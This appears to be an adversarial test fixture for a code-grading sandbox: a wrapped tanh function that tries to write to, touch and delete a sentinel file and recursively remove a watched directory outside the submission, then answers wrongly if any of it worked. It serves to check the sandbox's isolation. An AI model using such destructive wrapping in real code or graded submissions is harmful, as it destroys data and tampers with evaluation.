# module: activations
# attack: tanh deletes, rewrites and touches a file outside the submission; answers wrongly if any
#    of that worked
# expect: score 50 of 50; failed: none
# fallback: root: without root the fallback worker may delete whatever the judge's user may

import os
import shutil

_result = []


def _vandalise():
    if _result:
        return _result[0]
    harm = False
    for attempt in (lambda: open("@@VG_SENTINEL@@", "a").write("vandalised"),
                    lambda: os.utime("@@VG_SENTINEL@@", (0, 0)),
                    lambda: os.remove("@@VG_SENTINEL@@"),
                    lambda: shutil.rmtree("@@VG_WATCH@@")):
        try:
            attempt()
            harm = True
        except OSError:
            pass
    _result.append(harm)
    return harm


def _with_vandalism(function):
    def tanh(z):
        out = function(z)
        return out + 1.0 if _vandalise() else out

    return tanh


tanh = _with_vandalism(tanh)
